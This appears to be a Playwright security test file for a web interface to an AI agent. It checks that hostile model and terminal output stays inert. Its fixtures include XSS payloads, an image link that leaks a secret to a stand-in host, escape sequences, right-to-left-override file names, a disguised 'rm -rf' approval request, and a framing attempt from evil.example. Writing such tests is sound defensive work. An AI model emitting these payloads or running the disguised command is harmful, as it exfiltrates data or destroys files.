/** What a model says and a command prints is not trusted: a page that shows it runs none of it and asks nobody else for anything. */
import type { BrowserContext, Page } from "../tools/playwright.ts";
import { expect } from "../tools/playwright.ts";
import { test } from "./journey.ts";
import { asksToRun, patches, runs, says } from "./steps.ts";

/** Nobody answers there; that it is asked at all is what must not be. */
const elsewhere = "https://elsewhere.example";

const hostile = [
  `![a picture](${elsewhere}/leak.png?secret=1)`,
  `<img src="${elsewhere}/raw.png" onerror="document.title='run'">`,
  `<svg onload="document.title='run'"><script>document.title='run'</script></svg>`,
  `<iframe src="${elsewhere}/frame"></iframe><style>@import "${elsewhere}/style.css";</style>`,
  "[a script](javascript:document.title='run') and [a page](data:text/html,<script>1</script>)",
  `![drawn](data:image/svg+xml,<svg/onload="document.title='run'">)`,
  `[ours, it says](//elsewhere.example/api/sign-out) and [here](/api/sign-out)`,
  `[an anchor](${elsewhere}/page)`,
].join("\n\n");

/** What the page asked for beyond its own server, what its policy stopped, and whether anything of it ran. */
async function watch(page: Page): Promise<{ readonly asked: string[]; readonly stopped: string[] }> {
  const seen = { asked: [] as string[], stopped: [] as string[] };
  page.on("request", (request) => {
    const { protocol, hostname } = new URL(request.url());
    if (protocol.startsWith("http") && !["127.0.0.1", "localhost"].includes(hostname)) seen.asked.push(request.url());
  });
  page.on("console", (message) => {
    if (/content security policy/i.test(message.text())) seen.stopped.push(message.text());
  });
  page.on("dialog", (dialog) => void seen.asked.push(`dialog ${dialog.message()}`));
  await page.reload();
  return seen;
}

test("a hostile answer is text: nothing of it runs, and nobody else is asked for anything", async ({
  skein,
  signIn,
}) => {
  const screen = await signIn();
  const { page } = screen;
  const seen = await watch(page);
  skein.model.push([says(hostile, "\n\nThat was all.")]);
  await screen.startThread("Say something hostile");
  await expect(screen.row("That was all.")).toBeVisible();
  await screen.settled();
  const row = screen.row("That was all.");
  expect(await row.locator("img, svg script, iframe, style, object, embed").count()).toBe(0);
  const links = await row.getByRole("link").evaluateAll((found) =>
    found.map((link) => ({
      href: link.getAttribute("href"),
      rel: link.getAttribute("rel"),
      target: link.getAttribute("target"),
    })),
  );
  const outward = links.filter(({ href }) => href !== null && href !== "");
  expect(outward.map(({ href }) => href)).toEqual([`${elsewhere}/leak.png?secret=1`, `${elsewhere}/page`]);
  for (const { rel, target } of outward) expect([rel, target]).toEqual(["noopener noreferrer nofollow", "_blank"]);
  await page.reload();
  await expect(screen.row("That was all.")).toBeVisible();
  expect(await page.title()).not.toContain("run");
  expect(seen).toEqual({ asked: [], stopped: [] });
});

test("output, names of files and what is to be approved show what they are", async ({ skein, signIn }) => {
  const screen = await signIn();
  const seen = await watch(screen.page);
  await screen.makeWorkspace("hostile-output");
  const sequences = String.raw`\033]8;;${elsewhere}\007click\033]8;;\007 \033]0;owned\007 \033[2J<b onclick=1>bold</b>`;
  skein.model.push(
    [runs(`printf '${sequences}\\n'`)],
    [patches("*** Add File: harmless\u202Egnp.exe", "+x", "*** Add File: <img src=x onerror=alert(1)>.txt", "+y")],
    [asksToRun("echo safe \u202E;mr- fr", "Please\u202E approve")],
    [says("All done.")],
  );
  await screen.startThread("Print something hostile");
  await expect(screen.approval).toBeVisible();
  // A turned direction is spelt out, so that the command reads in the order in which it runs.
  await expect(screen.approval).toContainText("right-to-left override");
  await screen.decide("Decline");
  await expect(screen.row("All done.")).toBeVisible();
  await screen.settled();
  await screen.unfold();
  await expect(screen.conversation).toContainText("<b onclick=1>bold</b>");
  expect(await screen.conversation.locator("b[onclick], img").count()).toBe(0);
  const links = await screen.conversation
    .getByRole("link")
    .evaluateAll((all) => all.map((link) => link.getAttribute("href")));
  expect(links.filter((href) => href?.startsWith(elsewhere))).toEqual([]);
  expect(await screen.page.title()).not.toContain("owned");
  expect(seen).toEqual({ asked: [], stopped: [] });
});

test("the built page keeps to its policy on every screen, and no other page may frame it", async ({
  skein,
  signIn,
  newBrowser,
}) => {
  const screen = await signIn();
  const seen = await watch(screen.page);
  for (const path of ["/", "/settings", "/nothing-here"]) {
    await screen.page.goto(new URL(path, screen.page.url()).href);
    await expect(screen.page.locator("#root > *").first()).toBeVisible();
  }
  expect(seen).toEqual({ asked: [], stopped: [] });
  await expectNoFrame(await newBrowser(), skein.server.port);
});

async function expectNoFrame(browser: BrowserContext, port: number): Promise<void> {
  const page = await browser.newPage();
  const framed = ["http://evil.example/its-own", `http://127.0.0.1:${port}/`];
  await page.route("http://evil.example/**", (route) =>
    route.fulfill({ contentType: "text/html", body: framed.map((url) => `<iframe src="${url}"></iframe>`).join("") }),
  );
  await page.route(framed[0] ?? "", (route) => route.fulfill({ contentType: "text/html", body: "framed" }));
  await page.goto("http://evil.example/");
  const shown = () =>
    page
      .mainFrame()
      .childFrames()
      .map((frame) => frame.url());
  await expect.poll(shown).toEqual([framed[0], "chrome-error://chromewebdata/"]);
}
